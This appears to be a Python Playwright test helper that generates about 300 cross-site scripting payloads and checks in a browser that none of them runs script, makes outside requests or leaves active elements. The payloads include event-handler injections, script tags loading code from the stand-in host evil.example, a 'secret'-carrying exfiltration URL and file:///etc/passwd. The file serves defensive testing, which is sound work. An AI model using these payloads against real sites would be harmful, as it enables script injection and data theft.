"""Some 300 texts that want to become markup, scripts or requests, and a page that counts what they did."""

import re
from collections.abc import Generator, Iterable
from contextlib import contextmanager
from dataclasses import dataclass, field
from itertools import product
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Frame, Page, ViewportSize, expect

from tests.e2e.browsing import SETTLED_MS

_TAGS = (
    "img src=x,svg,video src=x,audio src=x,body,iframe,input autofocus,details open,marquee,"
    "object data=x,math,a href=x,button,form,select autofocus"
).split(",")
_EVENTS = "onerror onload onfocus ontoggle onmouseover onanimationstart".split()
_BREAKS = ("", '">', "'>", "</p>", "]]>", "-->", "</title>", "</textarea>")
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<script type=module>import('//evil.example/x.js')</script>",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/x",
    "https://evil.example/?q=secret",
    "\\\\evil.example\\x",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
)
_FORMS = (
    "[a]({})", "![a]({})", "<{}>", '<a href="{}">a</a>', '<img src="{}">', "[a][1]\n[1]: {}",
    '<link rel=prefetch href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<style>@import "{}";</style>', '<div style="background:url({})">', '<base href="{}">',
    '<form action="{}"><button>', '<svg><use href="{}"/></svg>', '<object data="{}">',
    '<iframe srcdoc="<img src={}>">', '<embed src="{}">',
)  # fmt: skip
_ENCODED = (
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "%3Cscript%3Ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)", "\u202e<script>",
)  # fmt: skip
PAYLOADS = [
    *(f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
    *(opening + script for opening, script in product(_BREAKS, _SCRIPTS)),
    *(form.replace("{}", address) for form, address in product(_FORMS, _ADDRESSES)),
    *_ENCODED,
]
# Elements that load or run, handlers, and addresses; a link that a person may tap is none of them
# as long as it is one of the web, in a tab of its own that knows nothing of ours.
_TAKEN = """() => [...document.querySelectorAll('*')].flatMap((e) => [
    ...(/^(script|iframe|object|embed|base|meta|link|style)$/i.test(e.tagName) &&
        !(e.src || e.href || '').startsWith(location.origin + '/web/')
            ? [e.id === 'frame-data' ? e.id : e.outerHTML] : []),
    ...[...e.attributes].filter((a) => /^on|^srcdoc$|^action$/i.test(a.name) ||
        (a.name === 'style' && /url/i.test(a.value)) ||
        (a.name === 'src' && !e.src.startsWith(location.origin)) ||
        (a.name === 'href' && /evil|script:|data:|file:/i.test(a.value) &&
            !(e.protocol === 'https:' && /noopener/.test(e.rel) && e.target === '_blank')))
        .map((a) => `${e.tagName} ${a.name}=${a.value}`)])"""
# All that can be read on a page: its texts, what stands in its fields, what its buttons are called.
_READ = """() => [document.body.textContent, ...[...document.querySelectorAll(
    'input, textarea, option, [aria-label], [title], [placeholder]')].flatMap((e) =>
    [e.value, e.ariaLabel, e.title, e.placeholder])].filter((s) => typeof s === 'string').join(' ')"""
# A policy that stopped something is heard of, whether or not the browser says so on its console.
_STOPPED = """addEventListener('securitypolicyviolation', (e) =>
    window.stopped(`${e.effectiveDirective} ${e.blockedURI}`))"""
_WEB_LINK = re.compile(r"\[([^\]\n]+)\]\(https?://[^\s)]+\)")
_BREAK = re.compile(r"[\x00-\x1f\u202e]+")


def numbered() -> dict[int, str]:
    """Each with its number before it, by which it is found again."""
    return {number: f"p{number}: {payload}" for number, payload in enumerate(PAYLOADS)}


def on_one_line() -> dict[int, str]:
    """As a name may hold them: without line breaks and signs that steer."""
    return {number: _BREAK.sub(" ", text) for number, text in numbered().items()}


def packed(texts: Iterable[str], most_chars: int, between: str = "\n") -> list[str]:
    """All of them as few texts of that length as they fit in."""
    packs = [""]
    for text in texts:
        if packs[-1] and len(packs[-1]) + len(text) + len(between) > most_chars:
            packs.append("")
        packs[-1] += f"{between if packs[-1] else ''}{text}"
    return packs


@dataclass
class Suspect:
    """A browser's page that is shown the payloads, and everything that they brought about."""

    page: Page
    own: set[str]
    scripts: list[str] = field(default_factory=list[str])
    requests: list[str] = field(default_factory=list[str])
    violations: list[str] = field(default_factory=list[str])
    elements: set[str] = field(default_factory=set[str])
    complaints: list[str] = field(default_factory=list[str])

    def look(self, where: Page | Frame | None = None, *, plain: set[str] | None = None) -> set[int]:
        """Which payloads stand here as the characters they are; elements they became are kept."""
        there = where or self.page
        self.elements |= set(there.evaluate(_TAKEN)) - (plain or set())
        return found_in(there.evaluate(_READ))

    def elements_of(self, where: Page | Frame) -> set[str]:
        """What is there by itself."""
        return set(where.evaluate(_TAKEN))

    def assert_harmless(self) -> None:
        assert (self.scripts, self.requests, self.violations) == ([], [], [])
        assert self.elements == set()
        assert self.complaints == []


def found_in(shown: str) -> set[int]:
    """The numbers of the payloads that stand in a text, word for word."""
    squeezed = _squeezed(shown)
    return {number for number, text in numbered().items() if _stands_in(text, squeezed)}


def _stands_in(text: str, shown: str) -> bool:
    """Whether it is there word for word; a link of the web may be drawn as one, under its name."""
    flat = _BREAK.sub(" ", text)
    return any(_squeezed(one) in shown for one in (text, flat, _WEB_LINK.sub(r"\1", text)))


def _squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


@contextmanager
def suspected(browser: Browser, *own: str, viewport: ViewportSize) -> Generator[Suspect]:
    """A fresh browser; on leaving, nothing ran, nobody else was asked and no policy had to step in."""
    context = browser.new_context(viewport=viewport)
    page = context.new_page()
    page.set_default_timeout(SETTLED_MS)
    expect.set_options(timeout=SETTLED_MS)
    suspect = Suspect(page, {urlsplit(one).netloc for one in own})

    def requested(url: str) -> None:
        if urlsplit(url).netloc not in suspect.own and not url.startswith(("data:", "blob:")):
            suspect.requests.append(url)

    def said(message: Any) -> None:
        if message.type in ("error", "warning"):
            suspect.complaints.append(message.text)

    def asked(dialog: Any) -> None:
        suspect.scripts.append(f"{dialog.type} {dialog.message}")
        dialog.dismiss()

    def stopped(told: str) -> None:
        suspect.violations.append(told)

    context.expose_function("stopped", stopped)
    context.add_init_script(_STOPPED)
    context.on("request", lambda request: requested(request.url))
    context.on("page", lambda other: suspect.scripts.append(f"opened {other.url}"))
    context.on("dialog", asked)
    page.on("console", said)
    page.on("pageerror", lambda error: suspect.complaints.append(str(error)))
    yield suspect
    context.close()
    suspect.assert_harmless()
